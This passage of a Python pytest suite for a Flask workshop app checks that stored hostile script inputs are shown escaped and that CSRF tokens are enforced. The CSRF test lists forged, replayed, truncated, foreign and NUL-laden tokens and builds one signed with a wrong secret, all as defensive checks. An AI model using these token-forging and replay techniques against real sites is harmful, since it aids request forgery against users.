    yield "workshop list", client.get("/en/workshops/").get_data(as_text=True)
    yield "workshop list fr", client.get("/fr/workshops/").get_data(as_text=True)
    for workshop_id in stored["workshops"][:: max(1, len(stored["workshops"]) // 8)]:
        for suffix in ("", "/live", "/projector", "/handout"):
            url = f"/en/workshops/{workshop_id}{suffix}"
            yield url, client.get(url).get_data(as_text=True)
    yield "new workshop (series choices)", client.get("/en/workshops/new").get_data(as_text=True)
    yield "admin users", client.get("/en/account/users").get_data(as_text=True)
    yield "admin tokens", client.get("/en/admin/").get_data(as_text=True)
    # Board links' labels: listed on the private page, shown on the shared page.
    yield "share list", client.get(f"/en/results/{world.submitted}").get_data(as_text=True)
    yield "share list fr", client.get(f"/fr/results/{world.submitted}").get_data(as_text=True)
    yield "shared page", client.get(f"/en/shared/{world.share_token}").get_data(as_text=True)


def test_hostile_input_catalogue(app: Flask, world: World) -> None:
    inputs = catalogue()
    assert len(inputs) >= 200, len(inputs)
    before = {token: answers_of(app, token) for token in (world.submitted, world.draft)}
    assert before[world.submitted][0] == "submitted" and before[world.draft][1]

    probe = Probe()
    stored = run_catalogue(app, world, probe)

    # Every page that shows stored text shows the payloads escaped, never live.
    scripts = [p for p in SCRIPT if dangerous(p)]
    live: list[str] = []
    escaped_seen: Counter[str] = Counter()
    pages = 0
    for url, html in pages_with_stored_text(app, world, stored):
        pages += 1
        live += [f"{url}: {found}" for found in live_markup(html)]
        for payload in scripts:
            if payload.lower() in html.lower():
                live.append(f"{url}: stored payload {payload!r} unescaped")
            if str(escape(payload)) in html:
                escaped_seen[url.split(" ")[0]] += 1
    summary = (
        f"\nHostile input: {len(inputs)} distinct bad inputs in the catalogue, {len(probe.tried)} tried in "
        f"{probe.sent} requests ({dict(sorted(probe.kinds.items()))}); "
        f"statuses {dict(sorted(probe.statuses.items()))}; 5xx: {len(probe.server_errors)}; "
        f"stored-text pages checked: {pages}"
    )
    print(summary)

    assert probe.tried == inputs, "every bad input of the catalogue was sent"
    assert probe.server_errors == [], "\n".join(probe.server_errors)
    assert probe.reflected == [], "\n".join(probe.reflected[:50])
    assert probe.api_not_json == [], "\n".join(probe.api_not_json[:50])
    assert live == [], "\n".join(live[:50])
    # The payloads really were stored and shown (escaped) where people see them.
    assert stored["labels"] and stored["workshops"]
    for page in ("link", "workshop", "admin", "share"):
        assert escaped_seen[page] > 0, (page, escaped_seen)

    after = {token: answers_of(app, token) for token in (world.submitted, world.draft)}
    assert after == before, "answers saved before the catalogue are intact"


# ============================================================================ CSRF: replayed and cross-session tokens


def csrf_token_in(html: str) -> str:
    match = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', html)
    assert match, "no CSRF token in page"
    return match.group(1)


def row_counts(app: Flask) -> dict[str, int]:
    with app.app_context():
        return {
            table.name: db.session.scalar(sa.select(sa.func.count()).select_from(table)) or 0
            for table in db.metadata.sorted_tables
        }


def state(app: Flask, world: World) -> tuple[Any, ...]:
    with app.app_context():
        users = db.session.execute(sa.text("SELECT email, is_active, session_version FROM user_account ORDER BY id"))
        workshops = db.session.execute(sa.text("SELECT id, status FROM workshop ORDER BY id"))
        return (
            row_counts(app),
            answers_of(app, world.draft),
            answers_of(app, world.submitted),
            [tuple(r) for r in users],
            [tuple(r) for r in workshops],
        )


def test_replayed_and_cross_session_csrf_tokens_are_refused(csrf_app: Flask, monkeypatch: pytest.MonkeyPatch) -> None:
    app = csrf_app
    monkeypatch.setattr(account_services, "_spend_verification_time", lambda password: None)
    reset_token, bearer, ids = seed_accounts(app, ADMIN, "other@example.org", "ended@example.org")

    def signed_in_client(email: str = ADMIN) -> tuple[FlaskClient, str]:
        client = app.test_client()
        before_sign_in = csrf_token_in(client.get("/en/account/sign-in").get_data(as_text=True))
        response = client.post(
            "/en/account/sign-in", data={"email": email, "password": PASSWORD, "csrf_token": before_sign_in}
        )
        assert response.status_code == 303
        return client, before_sign_in

    admin, pre_sign_in_token = signed_in_client()
    own = csrf_token_in(admin.get("/en/workshops/new").get_data(as_text=True))
    workshop = admin.post(
        "/en/workshops/new",
        data={"title": "W", "language": "en", "pages": ["importance"], "previous_id": "0", "csrf_token": own},
    )
    assert workshop.status_code == 302
    workshop_id = int(workshop.headers["Location"].rstrip("/").split("/")[-1])
    world = seed_world(app, admin, workshop_id, reset_token, bearer, ids)

    # Tokens that belong to someone else, or to a session that has ended.
    other, _unused = signed_in_client("other@example.org")
    foreign = csrf_token_in(other.get("/en/admin/").get_data(as_text=True))
    stranger = csrf_token_in(app.test_client().get("/en/assessment/").get_data(as_text=True))
    ended_client, _unused = signed_in_client("ended@example.org")
    ended = csrf_token_in(ended_client.get("/en/admin/").get_data(as_text=True))
    assert ended_client.post("/en/account/sign-out", data={"csrf_token": ended}).status_code == 303
    from itsdangerous import URLSafeTimedSerializer

    forged = URLSafeTimedSerializer("not-the-secret", salt="wtf-csrf-token").dumps(secrets.token_hex(20))
    flipped = own[:-3] + ("AAA" if not own.endswith("AAA") else "BBB")
    cases: dict[str, dict[str, Any]] = {
        "no token": {},
        "empty token": {"data": {"csrf_token": ""}},
        "garbage token": {"data": {"csrf_token": "not-a-token"}},
        "truncated own token": {"data": {"csrf_token": own[: len(own) // 2]}},
        "own token, signature altered": {"data": {"csrf_token": flipped}},
        "token of another signed-in session": {"data": {"csrf_token": foreign}},
        "token of an anonymous stranger": {"data": {"csrf_token": stranger}},
        "token replayed from a signed-out session": {"data": {"csrf_token": ended}},
        "own token replayed from before sign-in": {"data": {"csrf_token": pre_sign_in_token}},
        "token signed with another secret": {"data": {"csrf_token": forged}},
        "another session's token in the header": {"headers": {"X-CSRFToken": foreign}},
        "foreign token first, own second": {"data": {"csrf_token": [foreign, own]}},
        "10 kB token": {"data": {"csrf_token": "A" * 10_000}},
        "token with NUL": {"data": {"csrf_token": own + "\x00"}},
    }
    rules = sorted((r for r in app.url_map.iter_rules() if "POST" in r.methods), key=lambda r: r.endpoint)
    before = state(app, world)
    problems: list[str] = []
    sent = 0
    for name, case in cases.items():
        for rule in rules:
            data = {**post_data(rule.endpoint, world), **case.get("data", {})}
            client = admin  # signed in: the routes get past their role checks to the token check
            url = route_url(rule, world)
            with client.post(url, data=data, headers=case.get("headers", {})) as response:
                status = response.status_code
            sent += 1
            if status != 400:
                problems.append(f"{name}: POST {url} -> {status}")
    # The pre-sign-in token and a replay of the same request: the victim is still signed in, nothing changed.
    assert admin.get("/en/account/").status_code == 200
    after = state(app, world)
    print(f"\nCSRF: {len(cases)} bad tokens × {len(rules)} POST routes = {sent} requests, {len(problems)} not refused")
    assert problems == [], "\n".join(problems)
    assert after == before, "a refused token changed nothing"
    # A good token is not one-time (tokens are per session, HMAC-signed): replaying it in its own session works.
    for _attempt in range(2):
        response = admin.post("/en/admin/", data={"name": "replayed", "scopes": "uptake", "csrf_token": own})
        assert response.status_code == 200
